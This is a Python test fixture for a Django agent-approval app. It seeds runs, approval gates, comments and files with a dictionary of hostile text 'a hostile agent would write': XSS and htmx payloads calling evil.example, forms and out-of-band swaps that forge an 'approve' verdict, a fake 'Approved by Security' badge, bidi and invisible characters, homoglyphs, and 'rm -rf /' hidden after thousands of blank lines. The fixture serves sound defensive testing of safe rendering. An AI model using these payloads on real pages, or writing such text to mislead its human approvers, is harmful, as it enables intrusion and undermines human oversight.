"""What a hostile agent would write, and a run and gate that are made of it."""

from dataclasses import dataclass
from typing import Any

from django.contrib.auth.models import User

from approvals import services
from approvals.models import Gate
from orchestrator.models import Artifact, Run
from tests import factories, people

EVIL = "https://evil.example"
IMITATION = "\u2714 Approved by Security"
PAYLOADS = {
    "script": f"<script src='{EVIL}/s.js'></script><script>alert(1)</script>",
    "onerror": f"<img src='{EVIL}/i.png' onerror='alert(1)'>",
    "hx-get": f"<div hx-get='{EVIL}/get' hx-trigger='load'></div><i hx-post='/stop/' hx-trigger='load'></i>",
    "hx-on": "<b hx-on:click='alert(1)' hx-on::load='alert(2)'>x</b>",
    "hx-ws": "<div hx-ws:connect='wss://evil.example/'></div>",
    "oob": "<form id='decision' hx-swap-oob='true'>owned</form><input name='verdict' value='approve' form='decision'>",
    "partial": "<hx-partial hx-target='#decision'>owned</hx-partial>",
    "form": f"<form action='{EVIL}/f'><input name='version'><button name='verdict' value='approve'>Go</button></form>",
    "overlay": "<style>body{display:none}</style><div style='position:fixed;inset:0'>x</div>",
    "svg": "<svg onload='alert(1)'><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "base": f"<base href='{EVIL}/'>",
    "meta": f"<meta http-equiv='refresh' content='0;url={EVIL}/'>",
    "frame": f"<iframe srcdoc='<script>alert(1)</script>' src='{EVIL}/'></iframe><link rel=preload href='{EVIL}/l'>",
    "closing": "</pre></figure></template></textarea></title></script><h1>owned</h1>",
    "quotes": "\"' onmouseover=alert(1) autofocus onfocus=alert(2) x='",
    "template": "{{ request.user }}{% csrf_token %}",
    "links": f"[a](javascript:alert(1)) [b](data:text/html,x) ![c]({EVIL}/p.png) <{EVIL}/auto>",
    "terminal": "\x1b]8;;https://evil.example\x07click\x1b]8;;\x07\x1b[2J",
    "bidi": "pay\u202egnihton\u202c \u2066x\u2069",
    "invisible": "ig\u200bnore\u2060 \u2800\ufeff",
    "homoglyph": "p\u0430yp\u0430l",
    "blank lines": f"fine{chr(10) * 5000}rm -rf /",
    "imitation": f"{IMITATION}\n\n# {IMITATION}\n\n\u27e6U+FFFFFF\u27e7\u27e69 blank lines\u27e7",
}
ALL = "\n\n".join(PAYLOADS.values())
LINE = " ".join(text for name, text in PAYLOADS.items() if name != "blank lines")
FORBIDDEN = ("\x1b", "\u202e", "\u2066", "\u200b", "\u2060", "\u2800", "\ufeff")
ACTION = {"operation": "isolate", "host": "fin-db-02"}


@dataclass(frozen=True)
class Stage:
    """Who looks, and at what."""

    root: User
    run: Run
    gate: Gate
    file: Artifact

    @property
    def pages(self) -> dict[str, str]:
        """Every page that shows an agent's or a person's words."""
        run, task = f"/runs/{self.run.pk}/", "assess"
        return {
            "floor": "/",
            "inbox": "/inbox/",
            "card": f"/inbox/{self.gate.pk}/",
            "runs": "/runs/",
            "run": f"{run}?task={task}",
            "timeline": f"{run}?tab=timeline",
            "narrative": f"{run}?tab=narrative&all=1",
            "files": f"{run}?tab=files",
            "input": f"{run}?tab=input",
            "audit": "/audit/",
            "search": "/search/?q=script",
            "bell": "/shell/?part=bell",
            "workflow": f"/workflows/{self.run.workflow.name}/?tab=runs",
            "agent": "/agents/assessor/",
            "pause": f"/act/run/{self.gate.run_id}/pause/",
        }


def stage() -> Stage:
    """A run whose every text is hostile, waiting at a gate whose every text is."""
    root = people.person("root", is_superuser=True)
    User.objects.filter(pk=root.pk).update(first_name=LINE[:150], last_name=IMITATION)
    run = people.run()
    Run.objects.filter(pk=run.pk).update(title=LINE[:300], input=document(), correlation_id=LINE[:100])
    run.refresh_from_db()
    gate = people.gate(
        of=run, title=LINE[:300], proposal={"summary": ALL, **document()}, input=document(), action=ACTION,
        evidence=[{"claim": ALL, "source": LINE, "quote": ALL, "status": "unsupported"}],
        alternatives=[{"option": LINE, LINE: ALL}], consequence=LINE[:1000], rule=LINE[:500],
    )  # fmt: skip
    services.comment(gate_id=gate.pk, by=root, text=ALL[:9000])
    file = factories.artifact(run, name=f"{LINE[:150]}.html", body=ALL.encode(), media_type="text/html")
    factories.event(run, "task.failed", reason=LINE, code=LINE[:50], note=LINE)
    return Stage(root, run, gate, file)


def document() -> dict[str, Any]:
    """A JSON value that is hostile in keys, texts and depth."""
    return {LINE[:200]: LINE, "list": list(PAYLOADS.values()), "deep": {"a": [{"b": ALL}]}}
